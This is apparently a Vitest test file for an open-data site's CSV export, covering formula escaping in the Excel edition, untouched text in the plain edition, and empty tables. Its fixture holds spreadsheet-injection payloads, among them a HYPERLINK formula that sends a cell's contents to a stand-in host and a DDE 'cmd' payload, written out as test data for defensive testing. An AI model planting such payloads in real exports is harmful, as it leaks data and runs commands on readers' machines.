/**
 * The CSV files a reader downloads: the Excel edition never hands a spreadsheet a formula, the
 * plain CSV keeps the text as published, and an empty table is its header line alone.
 */
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../src/site/open-data/table-files.ts';
import type { Field } from '../../src/site/open-data/tables.ts';

const fields: Field[] = [
  { name: 'text', type: 'string', description: 'text' },
  { name: 'value', type: 'number', description: 'number' },
];
const hostile = [
  { text: '=HYPERLINK("http://example.invalid/?"&A1,"Xem")', value: 17420000000 },
  { text: '+1+cmd|\' /C calc\'!A0', value: -5 },
  { text: '-2+3', value: 35.16 },
  { text: '@SUM(A1:A9)', value: null },
  { text: '\tTab', value: 0 },
  { text: 'Tràng Định - 2024', value: 1 },
];

describe('the Excel CSV', () => {
  it('writes a text cell that starts like a formula with a leading apostrophe, and leaves numbers and other text alone', () => {
    expect(toCsv(fields, hostile, { excel: true })).toBe(
      '\uFEFFtext,value\r\n' +
        '"\'=HYPERLINK(""http://example.invalid/?""&A1,""Xem"")",17420000000\r\n' +
        '"\'+1+cmd|\' /C calc\'!A0",-5\r\n' +
        '"\'-2+3",35.16\r\n' +
        '"\'@SUM(A1:A9)",\r\n' +
        '"\'\tTab",0\r\n' +
        'Tràng Định - 2024,1\r\n',
    );
  });
});

describe('the plain CSV', () => {
  it('keeps every text exactly as published, with no BOM', () => {
    expect(toCsv(fields, hostile.slice(2, 4))).toBe('text,value\r\n-2+3,35.16\r\n@SUM(A1:A9),\r\n');
  });
});

describe('an empty table', () => {
  it('is its header line alone, with no blank line a reader would take for an empty row', () => {
    expect(toCsv(fields, [])).toBe('text,value\r\n');
    expect(toCsv(fields, [], { excel: true })).toBe('\uFEFFtext,value\r\n');
  });
});
